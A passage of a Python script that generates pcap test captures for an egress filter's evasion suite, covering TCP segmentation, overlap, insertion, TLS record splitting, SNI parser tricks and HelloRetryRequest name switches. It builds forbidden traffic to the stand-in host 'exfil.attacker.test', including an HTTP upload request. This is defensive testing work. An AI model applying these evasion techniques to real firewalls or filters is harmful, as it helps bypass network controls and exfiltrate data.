#!/usr/bin/python3
"""gen.py - deterministic captures for the evasion suite (issue 8, item 7).

usage:
  gen.py OUTDIR [CASE...]   write OUTDIR/<case>/in.pcap and OUTDIR/<case>/markers.json
                            (every case by default)
  gen.py --list             list the cases, one per line
  gen.py --list-open        list the cases of known open evasions (open.tsv)

One small capture per case, one flow per capture (rst_new_handshake_ok reuses
its 5-tuple for a second connection). The expected verdicts are in
tests/evasion/expected.tsv, worked out by hand from DESIGN 4, 4.1 and 4.2;
tests/evasion/README.md says what each case does.

markers.json holds the byte strings the scorer looks for in pass.pcap:
  "leak": bytes the policy forbids to pass. Each case places them only in
          frames that must not be forwarded: data after the point where the
          flow must be stopped, or the copy of the ClientHello that completes a
          forbidden name. Any of them in pass.pcap is a leak.
  "pass": bytes of a must-allow flow that must reach the other side.
Markers are ASCII "LEAK<case>" / "PASS<case>" (a DNS query is its own marker).

Built on the helpers of pcaps/gen_replay.py (Capture, Tcp, l2, prand,
server_hello_flight, tls_appdata) and pcaps/gen_classes.py (OpenVPN,
BitTorrent and WireGuard messages). Every byte is fixed: running it twice
gives identical files. Run with /usr/bin/python3 (Debian's python3-scapy).
"""

import base64
import json
import os
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "..", "pcaps"))

from gen_replay import (  # noqa: E402
    Capture,
    Tcp,
    l2,
    mac_pair,
    prand,
    server_hello_flight,
    tls_appdata,
)
from gen_classes import bt_msgs, ovpn_msgs, wg_msgs  # noqa: E402
from scapy.layers.inet import ICMP, IP, IPOption, IPOption_LSRR, TCP, UDP, fragment  # noqa: E402
from scapy.layers.inet6 import HBHOptUnknown, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop  # noqa: E402
from scapy.layers.dns import DNS, DNSQR, DNSRR  # noqa: E402
from scapy.packet import Raw  # noqa: E402
from scapy.layers.l2 import ARP, Ether  # noqa: E402

# ------------------------------------------------------------ address plan
# tests/evasion/case.conf: the shipped E2M policy, plus an IPv6 prefix for the
# e2m endpoint and for the office zone, and "social" among the office blocks.

S1 = "10.10.1.10"            # zone e2m (e2m-strict)
S6 = "2001:db8:e2::10"       # zone e2m, IPv6
O1 = "10.20.1.20"            # zone office
O6 = "2001:db8:20::20"       # zone office, IPv6
E2M = "198.51.100.5"         # endpoint e2m: TLS on 443, hosts e2m.customs.example, *.e2m.customs.example
E2M6 = "2001:db8:e2e::5"     # endpoint e2m, IPv6
MAIL = "192.0.2.25"          # endpoint boc_mail: SMTP, SMTPS, IMAPS, POPS on 25 465 587 993 995
RESOLVER = "192.0.2.53"      # endpoint dns: DNS on 53
SOC = "203.0.113.70"         # an outside web server (office traffic)
SOC6 = "2001:db8:ffff::70"

E2M_NAME = "e2m.customs.example"
EVIL = "exfil.attacker.test"   # same length as E2M_NAME: copies overlap byte for byte
FB = "www.facebook.com"        # nDPI maps it to Facebook, class social
VK = "m.vk.com"                # conf/lists/social.txt (vk.com): social without nDPI's help
assert len(EVIL) == len(E2M_NAME)

CCS = b"\x14\x03\x03\x00\x01\x01"


def leak(case):
    return ("LEAK<%s>" % case).encode()


def passm(case):
    return ("PASS<%s>" % case).encode()


def sid32(marker):
    """A 32-byte legacy_session_id holding a marker (the field is opaque)."""
    assert len(marker) <= 32
    return marker + b"-" * (32 - len(marker))


# --------------------------------------------------------------- TLS bytes
# Built by hand (not with scapy's TLS layer) so that every length can be made
# to disagree on purpose.

def ext(etype, data):
    return struct.pack("!HH", etype, len(data)) + data


def sni_entry(name, name_len=None):
    n = len(name) if name_len is None else name_len
    return b"\x00" + struct.pack("!H", n) + name


def sni_ext(entries, list_len=None):
    body = b"".join(entries)
    n = len(body) if list_len is None else list_len
    return ext(0, struct.pack("!H", n) + body)


def alpn_ext(extra=()):
    names = [b"h2", b"http/1.1"] + list(extra)
    lst = b"".join(bytes([len(n)]) + n for n in names)
    return ext(16, struct.pack("!H", len(lst)) + lst)


def std_exts(seed):
    """What curl/openssl send besides SNI and ALPN (TLS 1.3 capable)."""
    return [
        ext(10, struct.pack("!HHHH", 6, 29, 23, 24)),                                   # supported_groups
        ext(13, struct.pack("!H", 12) + struct.pack("!6H", 0x0403, 0x0804, 0x0401,
                                                     0x0503, 0x0805, 0x0501)),           # signature_algorithms
        ext(43, b"\x04\x03\x04\x03\x03"),                                                 # supported_versions
        ext(51, struct.pack("!H", 36) + struct.pack("!HH", 29, 32) + prand(seed + "k", 32)),  # key_share
    ]


CIPHERS = struct.pack("!9H", 0x1302, 0x1303, 0x1301, 0xC02C, 0xC030, 0xC02B, 0xC02F, 0xCCA9, 0xCCA8)


def hs_client_hello(seed, sni=E2M_NAME, sid=None, sni_raw=None, extra=(), alpn_extra=(), exts=None):
    """The ClientHello handshake message (type 1). sni_raw replaces the
    server_name extension (b"" leaves it out); extra are more extensions
    before ALPN, which is always last (a marker in it sits at the end)."""
    if exts is None:
        first = sni_ext([sni_entry(sni.encode())]) if sni_raw is None else sni_raw
        exts = [first] + std_exts(seed) + list(extra) + [alpn_ext(alpn_extra)]
    eb = b"".join(exts)
    body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x20" + (sid or prand(seed + "s", 32))
            + struct.pack("!H", len(CIPHERS)) + CIPHERS + b"\x01\x00"
            + struct.pack("!H", len(eb)) + eb)
    return b"\x01" + struct.pack("!I", len(body))[1:] + body


def record(ctype, body, version=0x0301):
    return bytes([ctype]) + struct.pack("!HH", version, len(body)) + body


def hello(seed, **kw):
    """A ClientHello in one TLS record."""
    return record(22, hs_client_hello(seed, **kw))


def marked_record(marker, seed, n=160):
    """An application_data record whose (opaque) payload starts with marker."""
    body = marker + prand(seed, n)
    return record(23, body, 0x0303)


def tls12_server_flight(seed):
    """TLS 1.2: ServerHello (no supported_versions), Certificate,
    ServerKeyExchange, ServerHelloDone, in one record."""
    sh = (b"\x03\x03" + prand(seed + "sr", 32) + b"\x20" + prand(seed + "ss", 32) + b"\xc0\x2f\x00"
          + struct.pack("!H", 5) + ext(0xFF01, b"\x00"))
    cert = prand(seed + "cert", 600)
    certs = struct.pack("!I", len(cert))[1:] + cert
    certmsg = struct.pack("!I", len(certs))[1:] + certs
    ske = b"\x03\x00\x1d\x20" + prand(seed + "ske", 32) + b"\x04\x01\x01\x00" + prand(seed + "sig", 256)

    def hs(t, b):
        return bytes([t]) + struct.pack("!I", len(b))[1:] + b
    return record(22, hs(2, sh) + hs(11, certmsg) + hs(12, ske) + hs(14, b""), 0x0303)


# ----------------------------------------------------------------- frames

class ETcp(Tcp):
    """gen_replay's Tcp with per-frame IP and TCP fields: a wrong checksum,
    a short TTL, the urgent pointer, and IP fragmentation."""

    def raw(self, from_client, flags, payload=b"", seq=None, ack=None, ipkw=None, tcpkw=None,
            options=None, frag=None, gap=None, window=64240):
        src, dst = (self.c, self.s) if from_client else (self.s, self.c)
        sp, dp = (self.cport, self.sport) if from_client else (self.sport, self.cport)
        if seq is None:
            seq = self.cseq if from_client else self.sseq
        if ack is None:
            ack = self.sseq if from_client else self.cseq
        if "A" not in flags:
            ack = 0
        ip = (IPv6 if ":" in src else IP)(src=src, dst=dst, **(ipkw or {}))
        tcp = TCP(sport=sp, dport=dp, flags=flags, seq=seq, ack=ack, window=window,
                  options=options or [], **(tcpkw or {}))
        pkt = ip / tcp
        if payload:
            pkt = pkt / Raw(payload)
        gap = self.rtt // 2 if gap is None else gap
        if frag is None:
            self.cap.emit(l2(src, dst, self.vlans) / pkt, gap)
            return
        # frag: the offsets (bytes of the IP payload, multiples of 8) where
        # fragments start, after the first at 0.
        for f in fragments(pkt, frag):
            self.cap.emit(l2(src, dst, self.vlans) / f, gap)
            gap = 100


def fragments(pkt, cuts, ident=0x4242):
    """Cut an IPv4 or IPv6 packet into fragments starting at the given
    payload offsets (multiples of 8), in order."""
    v6 = IPv6 in pkt
    if v6:
        hdr = IPv6(bytes(pkt[IPv6]))  # checksums filled in
        nh = hdr.nh
    else:
        hdr = IP(bytes(pkt[IP]))
    l4 = bytes(hdr.payload)
    bounds = [0] + list(cuts) + [len(l4)]
    out = []
    for a, b in zip(bounds, bounds[1:]):
        assert a % 8 == 0 and a < b
        more = b < len(l4)
        if v6:
            f = (IPv6(src=hdr.src, dst=hdr.dst, hlim=hdr.hlim)
                 / IPv6ExtHdrFragment(nh=nh, offset=a // 8, m=int(more), id=ident) / Raw(l4[a:b]))
        else:
            f = IP(src=hdr.src, dst=hdr.dst, ttl=hdr.ttl, id=ident, proto=hdr.proto,
                   flags="MF" if more else 0, frag=a // 8) / Raw(l4[a:b])
        out.append(f)
    return out


def segments(t, data, size):
    """data from the client in segments of `size` bytes, in order, no ACKs."""
    base = t.cseq
    for i in range(0, len(data), size):
        t.raw(True, "PA", data[i:i + size], seq=base + i, gap=200)
    t.cseq = base + len(data)


def cut_at(t, data, cuts, order=None):
    """data from the client cut at the given offsets; order lists the pieces
    in sending order (default in order)."""
    base = t.cseq
    bounds = [0] + list(cuts) + [len(data)]
    pieces = [(bounds[i], data[bounds[i]:bounds[i + 1]]) for i in range(len(bounds) - 1)]
    for i in (order or range(len(pieces))):
        off, p = pieces[i]
        t.raw(True, "PA", p, seq=base + off)
    t.cseq = base + len(data)


def tls_flow(cap, c, cport, s, isn, seed, send_hello, after_marker, vlans=(), sport=443, close=True):
    """Handshake, the ClientHello (send_hello(t) sends it), the server's ACK
    and flight, the client's Finished, a client record that starts with
    after_marker, the server's answer, close. Returns the connection."""
    t = ETcp(cap, c, cport, s, sport, vlans=vlans, isn=isn, rtt_us=20000)
    t.handshake()
    send_hello(t)
    t.ack(False)
    t.data(False, server_hello_flight(seed))
    t.data(True, CCS + tls_appdata(seed + "fin", 53))
    t.data(True, marked_record(after_marker, seed + "req"))
    t.data(False, tls_appdata(seed + "resp", 400))
    if close:
        t.close()
    return t


def send_whole(data):
    def f(t):
        t.send(True, data)
    return f


def tls_established(cap, c, cport, s, isn, seed, sport=443, vlans=()):
    """An allowed E2M TLS 1.3 session up to and including one exchange of
    application data (802.1Q tags on every frame with vlans); the caller goes
    on from there."""
    t = ETcp(cap, c, cport, s, sport, vlans=vlans, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, hello(seed))
    t.data(False, server_hello_flight(seed))
    t.data(True, CCS + tls_appdata(seed + "fin", 53))
    t.data(True, tls_appdata(seed + "req", 180))
    t.data(False, tls_appdata(seed + "resp", 700))
    return t


def udp(cap, src, sport, dst, dport, payload, gap=10000):
    cap.emit(l2(src, dst) / (IPv6 if ":" in src else IP)(src=src, dst=dst)
             / UDP(sport=sport, dport=dport) / Raw(payload), gap)


# ------------------------------------------------------------------- cases

CASES = {}
# Cases of known, still open evasions (tests/evasion/open.tsv): generated and
# scored only on demand (run.sh --open), so that the suite stays the bar.
OPEN = {}


def case(fn):
    CASES[fn.__name__[5:]] = fn
    return fn


def open_case(fn):
    OPEN[fn.__name__[5:]] = fn
    return fn


def name_offset(h, name):
    i = h.find(name.encode())
    assert i > 0
    return i


# --- TCP segmentation

@case
def case_seg_1byte_e2m(n):
    """A genuine E2M ClientHello in 1-byte segments."""
    cap = Capture()
    tls_flow(cap, S1, 42001, E2M, 101, n, lambda t: segments(t, hello(n), 1), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_seg_1byte_evil(n):
    """A ClientHello for another name to E2M's address, in 1-byte segments."""
    cap = Capture()
    tls_flow(cap, S1, 42002, E2M, 102, n, lambda t: segments(t, hello(n, sni=EVIL), 1), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_seg_sni_straddle_e2m(n):
    """A genuine ClientHello cut inside the record header and inside the name."""
    cap = Capture()
    h = hello(n)
    off = name_offset(h, E2M_NAME)
    tls_flow(cap, S1, 42003, E2M, 103, n, lambda t: cut_at(t, h, [3, off + 5, off + 11]), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_seg_1byte_social(n):
    """Office: a ClientHello for a social site in 1-byte segments."""
    cap = Capture()
    tls_flow(cap, O1, 42004, SOC, 104, n, lambda t: segments(t, hello(n, sni=VK), 1), leak(n))
    return cap, {"leak": [leak(n)]}


# --- reordering

@case
def case_reorder_evil(n):
    """The second half of an evil ClientHello first, then the first half."""
    cap = Capture()
    h = hello(n, sni=EVIL, sid=sid32(leak(n)))
    off = name_offset(h, EVIL)
    # the first half holds the session id (the marker): it completes the name
    tls_flow(cap, S1, 42011, E2M, 111, n, lambda t: cut_at(t, h, [off + 8], order=[1, 0]), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_reorder_social(n):
    """Office: a ClientHello for a social site, second half first."""
    cap = Capture()
    h = hello(n, sni=VK, sid=sid32(leak(n)))
    off = name_offset(h, VK)
    tls_flow(cap, O1, 42012, SOC, 112, n, lambda t: cut_at(t, h, [off + 3], order=[1, 0]), leak(n))
    return cap, {"leak": [leak(n)]}


# --- overlapping segments with conflicting bytes

def overlap(cap, n, cport, isn, first_name, second_name, second_sid, c=S1, s=E2M):
    """Segment 1: bytes [0, end of name) of a ClientHello for first_name.
    Segment 2: bytes [session id, end) of one for second_name: the session
    id and the name are covered twice."""
    a = hello(n, sni=first_name)
    b = hello(n, sni=second_name, sid=second_sid)
    assert len(a) == len(b)
    sid_off = 5 + 4 + 2 + 32 + 1
    end = name_offset(a, first_name) + len(first_name)

    def send(t):
        base = t.cseq
        t.raw(True, "PA", a[:end], seq=base)
        t.raw(True, "PA", b[sid_off:], seq=base + sid_off)
        t.cseq = base + len(a)
    tls_flow(cap, c, cport, s, isn, n, send, leak(n))


@case
def case_overlap_e2m_then_evil(n):
    """First copy says e2m, the overlapping second copy says evil."""
    cap = Capture()
    overlap(cap, n, 42021, 121, E2M_NAME, EVIL, sid32(leak(n)))
    return cap, {"leak": [leak(n)]}


@case
def case_overlap_evil_then_e2m(n):
    """First copy says evil, the overlapping second copy says e2m."""
    cap = Capture()
    overlap(cap, n, 42022, 122, EVIL, E2M_NAME, sid32(leak(n)))
    return cap, {"leak": [leak(n)]}


@case
def case_overlap_same_e2m(n):
    """The same overlap with identical bytes (a repacketised retransmission)."""
    cap = Capture()
    h = hello(n)
    sid_off = 5 + 4 + 2 + 32 + 1
    end = name_offset(h, E2M_NAME) + len(E2M_NAME)

    def send(t):
        base = t.cseq
        t.raw(True, "PA", h[:end], seq=base)
        t.raw(True, "PA", h[sid_off:], seq=base + sid_off)
        t.cseq = base + len(h)
    tls_flow(cap, S1, 42023, E2M, 123, n, send, passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_overlap_office_social(n):
    """Office: the hello for m.vk.com up to the end of its name, then an
    overlapping copy from the session id on of a hello for ex.a.org (same
    length) that completes it: Linux keeps the first copy's bytes and takes
    the rest, and serves m.vk.com. The exception is allowed there; the
    class block must still hold at the segment that completes the hello
    (red team round six: it was decided a packet late, and the second
    copy, LEAK in its session id, passed)."""
    cap = Capture()
    overlap(cap, n, 42462, 562, VK, "ex.a.org", sid32(leak(n)), c=O1, s=SOC)
    return cap, {"leak": [leak(n)]}


# --- insertion (Ptacek & Newsham): a copy the server never accepts

def insertion(cap, n, cport, isn, first_kw):
    a = hello(n)                               # what the inserted copy says
    b = hello(n, sni=EVIL, sid=sid32(leak(n)))  # what the server reads

    def send(t):
        base = t.cseq
        t.raw(True, "PA", a, seq=base, **first_kw)
        t.raw(True, "PA", b, seq=base)
        t.cseq = base + len(b)
    tls_flow(cap, S1, cport, E2M, isn, n, send, leak(n))


@case
def case_insert_badsum(n):
    """An e2m ClientHello with a wrong TCP checksum, then the evil one."""
    cap = Capture()
    insertion(cap, n, 42031, 131, {"tcpkw": {"chksum": 0xDEAD}})
    return cap, {"leak": [leak(n)]}


@case
def case_insert_ttl(n):
    """An e2m ClientHello with TTL 1 (expires before the server), then the evil one."""
    cap = Capture()
    insertion(cap, n, 42032, 132, {"ipkw": {"ttl": 1}})
    return cap, {"leak": [leak(n)]}


@case
def case_insert_badsum_ok(n):
    """A genuine ClientHello damaged on the wire (wrong checksum), then its retransmission."""
    cap = Capture()
    h = hello(n)
    damaged = bytearray(h)
    damaged[20] ^= 0x40  # a bit of the random

    def send(t):
        base = t.cseq
        t.raw(True, "PA", bytes(damaged), seq=base, tcpkw={"chksum": 0xDEAD})
        t.raw(True, "PA", h, seq=base, gap=200000)
        t.cseq = base + len(h)
    tls_flow(cap, S1, 42033, E2M, 133, n, send, passm(n))
    return cap, {"pass": [passm(n)]}


# --- TLS record fragmentation

def two_records(msg, cut):
    return record(22, msg[:cut]) + record(22, msg[cut:])


@case
def case_tlsrec_split_e2m(n):
    """A genuine ClientHello split over two TLS records (cut inside the name)."""
    cap = Capture()
    m = hs_client_hello(n)
    cut = m.find(E2M_NAME.encode()) + 7
    tls_flow(cap, S1, 42041, E2M, 141, n, send_whole(two_records(m, cut)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_tlsrec_tiny_e2m(n):
    """A genuine ClientHello in records of 16 bytes each."""
    cap = Capture()
    m = hs_client_hello(n)
    recs = b"".join(record(22, m[i:i + 16]) for i in range(0, len(m), 16))
    tls_flow(cap, S1, 42042, E2M, 142, n, send_whole(recs), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_tlsrec_split_evil(n):
    """An evil ClientHello split over two TLS records."""
    cap = Capture()
    m = hs_client_hello(n, sni=EVIL, sid=sid32(leak(n)))
    cut = m.find(EVIL.encode()) + 7
    tls_flow(cap, S1, 42043, E2M, 143, n, send_whole(two_records(m, cut)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_tlsrec_split_social(n):
    """Office: a ClientHello for a social site split over two TLS records."""
    cap = Capture()
    m = hs_client_hello(n, sni=VK, sid=sid32(leak(n)))
    cut = m.find(VK.encode()) + 3
    tls_flow(cap, O1, 42044, SOC, 144, n, send_whole(two_records(m, cut)), leak(n))
    return cap, {"leak": [leak(n)]}


# --- SNI parser differentials

def sni_case(n, cport, isn, **kw):
    cap = Capture()
    tls_flow(cap, S1, cport, E2M, isn, n, send_whole(hello(n, sid=sid32(leak(n)), **kw)), leak(n))
    return cap, {"leak": [leak(n)]}


E2M_B, EVIL_B = E2M_NAME.encode(), EVIL.encode()


@case
def case_sni_two_names_e2m_first(n):
    return sni_case(n, 42051, 151, sni_raw=sni_ext([sni_entry(E2M_B), sni_entry(EVIL_B)]))


@case
def case_sni_two_names_evil_first(n):
    return sni_case(n, 42052, 152, sni_raw=sni_ext([sni_entry(EVIL_B), sni_entry(E2M_B)]))


@case
def case_sni_two_exts(n):
    """Two server_name extensions: e2m first, evil later in the list."""
    return sni_case(n, 42053, 153, extra=[sni_ext([sni_entry(EVIL_B)])])


@case
def case_sni_nul(n):
    return sni_case(n, 42054, 154, sni=E2M_NAME + "\x00." + EVIL)


@case
def case_sni_odd_chars(n):
    """A name with a '/' that ends like an allowed wildcard name."""
    return sni_case(n, 42055, 155, sni=EVIL + "/." + E2M_NAME)


@case
def case_sni_list_short(n):
    """The list length covers the e2m entry only; the extension holds an evil entry after it."""
    return sni_case(n, 42056, 156, sni_raw=sni_ext([sni_entry(E2M_B), sni_entry(EVIL_B)],
                                                  list_len=3 + len(E2M_B)))


@case
def case_sni_name_overrun(n):
    """The name length runs past the end of the server_name list."""
    return sni_case(n, 42057, 157, sni_raw=sni_ext([sni_entry(E2M_B, name_len=len(E2M_B) + 8)],
                                                  list_len=3 + len(E2M_B)))


@case
def case_sni_dup_ext(n):
    """The e2m name, and supported_groups twice (repeated extensions)."""
    return sni_case(n, 42058, 158, extra=[ext(10, struct.pack("!HH", 2, 29))])


@case
def case_sni_trailing_dot_social(n):
    """Office: a social name with a trailing dot."""
    cap = Capture()
    tls_flow(cap, O1, 42059, SOC, 159, n, send_whole(hello(n, sni=VK + ".", sid=sid32(leak(n)))), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_sni_wildcard_ok(n):
    """A genuine name under *.e2m.customs.example."""
    cap = Capture()
    tls_flow(cap, S1, 42060, E2M, 160, n, send_whole(hello(n, sni="api." + E2M_NAME)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_sni_ech_grease_ok(n):
    """A genuine e2m ClientHello with a GREASE encrypted_client_hello extension (as Chrome sends)."""
    cap = Capture()
    ech = (b"\x00" + struct.pack("!HH", 1, 1) + b"\x2a" + struct.pack("!H", 32) + prand(n + "enc", 32)
           + struct.pack("!H", 144) + prand(n + "ech", 144))
    tls_flow(cap, S1, 42061, E2M, 161, n, send_whole(hello(n, extra=[ext(0xFE0D, ech)])), passm(n))
    return cap, {"pass": [passm(n)]}


FRONT, FRONT_NAME = "203.0.113.120", "portal.customs.example"


@case
def case_ech_front(n):
    """The same GREASE-or-real ECH extension to an endpoint declared a shared front."""
    cap = Capture()
    ech = (b"\x00" + struct.pack("!HH", 1, 1) + b"\x2a" + struct.pack("!H", 32) + prand(n + "enc", 32)
           + struct.pack("!H", 144) + prand(n + "ech", 144))
    tls_flow(cap, S1, 42062, FRONT, 162, n,
             send_whole(hello(n, sni=FRONT_NAME, sid=sid32(leak(n)), extra=[ext(0xFE0D, ech)])), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_front_ok(n):
    """A ClientHello without ECH to the shared front, with its declared name."""
    cap = Capture()
    tls_flow(cap, S1, 42063, FRONT, 163, n, send_whole(hello(n, sni=FRONT_NAME)), passm(n))
    return cap, {"pass": [passm(n)]}


HRR_RANDOM = bytes.fromhex("CF21AD74E59A6111BE1D8C021E65B891C2A211167ABB8C5E079E09E2C8A8339C")


def hrr_flight(seed):
    """A TLS 1.3 HelloRetryRequest (a ServerHello with RFC 8446's random,
    asking for a secp256r1 key share), then ChangeCipherSpec."""
    exts = b"\x00\x2b\x00\x02\x03\x04" + b"\x00\x33\x00\x02\x00\x17"
    body = (b"\x03\x03" + HRR_RANDOM + b"\x20" + prand(seed + "s", 32) + b"\x13\x01" + b"\x00"
            + struct.pack("!H", len(exts)) + exts)
    return record(22, b"\x02" + struct.pack("!I", len(body))[1:] + body, 0x0303) + CCS


def hrr(n, cport, isn, server, name1, name2, mark, extra2=(), client=S1):
    """The client's ClientHello for name1, the server's HelloRetryRequest,
    the client's ChangeCipherSpec and second ClientHello for name2 (mark in
    its padding extension), the handshake's end, application data with
    mark."""
    cap = Capture()
    t = ETcp(cap, client, cport, server, 443, isn=isn, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni=name1)
    t.data(True, ch1)
    t.data(False, hrr_flight(n))
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, mark + b"\x00" * 40)
    t.data(True, CCS + hello(n, sni=name2, sid=sid, extra=list(extra2) + [pad]))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_hrr_ok(n):
    """TLS 1.3 with a HelloRetryRequest: the second ClientHello names the same server."""
    return hrr(n, 42180, 280, E2M, E2M_NAME, E2M_NAME, passm(n)), {"pass": [passm(n)]}


@case
def case_hrr_other_name(n):
    """After a HelloRetryRequest, the second ClientHello names another server
    (OpenSSL reads the new name; RFC 8446 forbids the change)."""
    return hrr(n, 42181, 281, E2M, E2M_NAME, EVIL, leak(n)), {"leak": [leak(n)]}


@case
def case_hrr_front_ech(n):
    """At a shared front, the first ClientHello without ECH, the second with it."""
    ech = (b"\x00" + struct.pack("!HH", 1, 1) + b"\x2a" + struct.pack("!H", 32) + prand(n + "enc", 32)
           + struct.pack("!H", 144) + prand(n + "ech", 144))
    return hrr(n, 42182, 282, FRONT, FRONT_NAME, FRONT_NAME, leak(n), [ext(0xFE0D, ech)]), {"leak": [leak(n)]}


@case
def case_office_hrr_other_vk(n):
    """Office: the first ClientHello for www.example.org (no class: allowed), the
    HelloRetryRequest, then a second ClientHello for m.vk.com, which OpenSSL serves.
    The flow is allowed (office default) at the HRR's packet, and an office flow is
    not checked after its verdict (its endpoint declares no applications): it passed
    before judge_hrr_watch, which keeps the first-bytes slot of any allowed flow named
    by a whole hello until the server shows no HRR, or the second hello is read. A
    second hello that names another server is refused whatever the zone does."""
    return hrr(n, 42183, 283, SOC, "www.example.org", VK, leak(n), client=O1), {"leak": [leak(n)]}


@case
def case_office_hrr_same_ok(n):
    """Must-allow twin of office_hrr_other_vk: both hellos name www.example.org."""
    return hrr(n, 42190, 290, SOC, "www.example.org", "www.example.org", passm(n), client=O1), \
        {"pass": [passm(n)]}


@case
def case_office_hrr_split_vk(n):
    """office_hrr_other_vk with the HRR cut into 40-byte segments by the client's own
    window (hrr_split_front's way), so that its 43 bytes are joined after the verdict:
    the slot must stay while they may still be an HRR's. Must drop."""
    return hrr_small_window(n, 42191, 291, SOC, "www.example.org", VK, leak(n), client=O1), \
        {"leak": [leak(n)]}


# --- protocol change after an allow

@case
def case_after_tls13_ok(n):
    """A genuine TLS 1.3 session with records across segment boundaries."""
    cap = Capture()
    t = tls_established(cap, S1, 42071, E2M, 171, n)
    r1 = marked_record(passm(n), n + "r1", 300)
    r2 = tls_appdata(n + "r2", 90)
    r3 = tls_appdata(n + "r3", 2500)
    stream = r1 + r2 + r3
    # two records and a bit in one segment, the rest cut inside a record header
    cuts = [len(r1) + len(r2) + 2, len(r1) + len(r2) + 1400]
    cut_at(t, stream, cuts)
    t.ack(False)
    big = tls_appdata(n + "big", 4000)
    for i in range(0, len(big), 1448):
        t.send(False, big[i:i + 1448])
    t.ack(True)
    t.data(True, record(21, prand(n + "cn", 19), 0x0303))  # close_notify (encrypted)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_tls12_ok(n):
    """A genuine TLS 1.2 session: encrypted Finished in handshake records after ChangeCipherSpec."""
    cap = Capture()
    t = ETcp(cap, S1, 42072, E2M, 443, isn=172, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, tls12_server_flight(n))
    cke = b"\x10\x00\x00\x21\x20" + prand(n + "cke", 32)
    t.data(True, record(22, cke, 0x0303) + CCS + record(22, prand(n + "cfin", 40), 0x0303))
    t.data(False, CCS + record(22, prand(n + "sfin", 40), 0x0303))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 900))
    t.data(True, record(21, prand(n + "cn", 26), 0x0303))
    t.close()
    return cap, {"pass": [passm(n)]}


def after(n, cport, isn, from_client, payload):
    cap = Capture()
    t = tls_established(cap, S1, cport, E2M, isn, n)
    t.data(from_client, payload)
    t.data(not from_client, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_http_client(n):
    return after(n, 42073, 173, True, b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n)
                 + b"\r\n\r\n")


@case
def case_after_http_server(n):
    return after(n, 42074, 174, False, b"HTTP/1.1 200 OK\r\nContent-Length: 24\r\n\r\n" + leak(n) + b"\n")


@case
def case_after_ssh_client(n):
    return after(n, 42075, 175, True, b"SSH-2.0-OpenSSH_9.2p1 " + leak(n) + b"\r\n")


@case
def case_after_ssh_server(n):
    return after(n, 42076, 176, False, b"SSH-2.0-OpenSSH_9.2p1 " + leak(n) + b"\r\n")


@case
def case_after_hello_client(n):
    """A second, plaintext ClientHello for another name after the handshake."""
    return after(n, 42077, 177, True, hello(n + "2", sni=EVIL, sid=sid32(leak(n))))


@case
def case_after_hello_server(n):
    """The server sends a plaintext handshake record (a ServerHello) after the handshake."""
    body = b"\x03\x03" + prand(n + "sr", 32) + b"\x20" + sid32(leak(n)) + b"\x13\x01\x00\x00\x00"
    return after(n, 42078, 178, False, record(22, b"\x02" + struct.pack("!I", len(body))[1:] + body, 0x0303))


# --- insertion and reordering after the verdict (docs/stream.md: the
# checksum after the verdict, and the first byte of a handshake record
# after application data)

def rehello_record(n):
    """A plaintext ClientHello for exfil, as the client would send it after
    application data: a handshake record whose body starts with byte 1."""
    rec = hello(n + "2", sni=EVIL, sid=sid32(leak(n)))
    assert rec[0] == 22 and rec[5] == 1
    return rec


@case
def case_after_rehello_gap(n):
    """After the handshake, a plaintext ClientHello whose record header comes
    alone, then its body past the first byte, then the first byte: the gap
    lies inside the record's body, but its byte is the one that must be read."""
    cap = Capture()
    t = tls_established(cap, S1, 42151, E2M, 251, n)
    rec = rehello_record(n)
    base = t.cseq
    t.raw(True, "PA", rec[:5], seq=base)
    t.raw(True, "PA", rec[6:], seq=base + 6)
    t.raw(True, "PA", rec[5:6], seq=base + 5)
    t.cseq = base + len(rec)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_rehello_badsum(n):
    """After the handshake, a handshake record's header alone, then a copy of
    its body with a wrong checksum whose first byte is no hello, then the
    good copy: a plaintext ClientHello."""
    cap = Capture()
    t = tls_established(cap, S1, 42152, E2M, 252, n)
    rec = rehello_record(n)
    decoy = b"\x04" + prand(n + "decoy", len(rec) - 6)
    base = t.cseq
    t.raw(True, "PA", rec[:5], seq=base)
    t.raw(True, "PA", decoy, seq=base + 5, tcpkw={"chksum": 0xDEAD})
    t.raw(True, "PA", rec[5:], seq=base + 5)
    t.cseq = base + len(rec)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_reneg_reorder_ok(n):
    """TLS 1.2, then the client's encrypted renegotiation (a handshake record
    after application data) whose body's second segment comes before its
    first, then again once the gap is filled; the next record's body happens
    to start with a byte 1 (ciphertext: any byte)."""
    cap = Capture()
    t = ETcp(cap, S1, 42153, E2M, 443, isn=253, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, tls12_server_flight(n))
